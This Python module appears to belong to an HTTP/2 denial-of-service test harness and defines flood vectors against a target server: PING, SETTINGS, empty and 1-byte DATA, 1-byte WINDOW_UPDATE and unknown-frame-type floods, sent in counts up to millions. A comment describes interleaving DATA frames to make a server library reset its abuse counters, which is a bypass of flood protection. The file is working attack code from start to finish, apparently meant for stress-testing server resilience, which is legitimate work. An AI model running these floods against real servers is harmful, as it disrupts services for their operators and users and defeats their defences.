"""Vectors 14-17, 19 and 29: small frames, very many of them."""

import time

import http2_raw as h2
from attack import PATIENCE, repeat, vector

OPENING_FLAGS = h2.END_HEADERS


def open_call(attack, stream=1):
    """A stream on which a message is still awaited."""
    return h2.headers(stream, h2.request_block(attack.target.path), OPENING_FLAGS)


@vector(14, "PING flood", cpu=1.0, cut=True)
def ping_flood(attack):
    ping = h2.frame(h2.PING, 0, 0, b"12345678")
    count = attack.dose(1000000)
    attack.flood("answers read", ping * count)
    attack.flood("answers not read", ping * count, read=False)
    # Data on a stream is what makes the library forget its strikes.
    start = open_call(attack) + h2.frame(h2.DATA, 0, 1, b"\0\0\0\xff\xff")
    attack.flood("between DATA", start + (ping + h2.frame(h2.DATA, 0, 1, b"a" * 64)) * attack.dose(1000, 1000)
                 + ping * count)


@vector(15, "SETTINGS flood", cpu=1.0, cut=True)
def settings_flood(attack):
    count = attack.dose(1000000)
    attack.flood("empty", h2.settings() * count)
    attack.flood("answers not read", h2.settings() * count, read=False)
    calls = b"".join(open_call(attack, stream) for stream in h2.streams(100))
    windows = h2.settings((h2.INITIAL_WINDOW_SIZE, 0)) + h2.settings((h2.INITIAL_WINDOW_SIZE, 65535))
    attack.flood("windows of 100 streams", calls + windows * (count // 4))
    attack.flood("ACK never asked for", h2.frame(h2.SETTINGS, h2.ACK, 0) * count)


@vector(16, "empty DATA flood", cpu=1.0, cut=True)
def empty_data(attack):
    attack.flood("on an open stream", open_call(attack) + h2.frame(h2.DATA, 0, 1) * attack.dose(2000000))
    # As many as the first window holds.
    padded = h2.frame(h2.DATA, h2.PADDED, 1, b"\0")
    attack.flood("padding only", open_call(attack) + padded * 60000)


@vector(17, "1-byte DATA", cpu=1.5, cut=True)
def one_byte_data(attack):
    """Within the windows that the server grants, on many streams of a few connections."""
    count = attack.dose(50000)
    for number in range(3):
        connection = attack.connect()
        calls = 60
        connection.push(b"".join(open_call(attack, stream) + h2.frame(h2.DATA, 0, stream, b"\0\0\0\xea\x60")
                                 for stream in h2.streams(calls)))
        used, until = 5 * calls, time.monotonic() + PATIENCE / 2
        spent = dict.fromkeys(h2.streams(calls), 5)
        while connection.cut is None and min(spent.values()) < count and time.monotonic() < until:
            moved = 0
            for stream in spent:
                room = min(65535 + connection.windows[0] - used, 65535 + connection.windows[stream] - spent[stream],
                           count + 5 - spent[stream], 500)
                if room > 0 and connection.push(h2.frame(h2.DATA, 0, stream, b"a") * room, 5):
                    used, spent[stream], moved = used + room, spent[stream] + room, moved + room
            if moved == 0 and not connection.wait(lambda c=connection, u=used: 65535 + c.windows[0] > u, 1):
                break
        attack.settle(connection)
        attack.floods += 1
        attack.floods_cut += connection.cut is not None
        attack.sent += connection.sent
        attack.note(f"connection {number + 1}: {used} bytes of payload, " + (f"cut ({connection.cut})" if connection.cut
                                                                         else "not cut"))


@vector(19, "1-byte window updates", cpu=1.5, cut=True)
def small_window_updates(attack):
    count = attack.dose(1000000)
    attack.flood("of the connection", h2.window_update(0, 1) * count)
    calls = b"".join(open_call(attack, stream) for stream in h2.streams(100))
    attack.flood("of 100 streams", calls + b"".join(h2.window_update(stream, 1) for stream in h2.streams(100))
                 * (count // 100))
    attack.flood("of streams that are not there", repeat(lambda n: h2.window_update(2 * (n % 100000) + 1, 1), count))


@vector(29, "unknown frame types", cpu=1.5)
def unknown_frames(attack):
    count = attack.dose(1000000)
    attack.flood("empty", h2.frame(0xfa, 0xff, 0) * count)
    attack.flood("on streams", repeat(lambda n: h2.frame(10 + n % 240, n & 0xff, n, b"x" * 8), count // 2))
    attack.flood("full", h2.frame(0xfb, 0, 1, b"x" * 16384) * attack.dose(4000))
    attack.flood("too large", h2.frame(0xfb, 0, 1, b"x" * 20000) * 10)
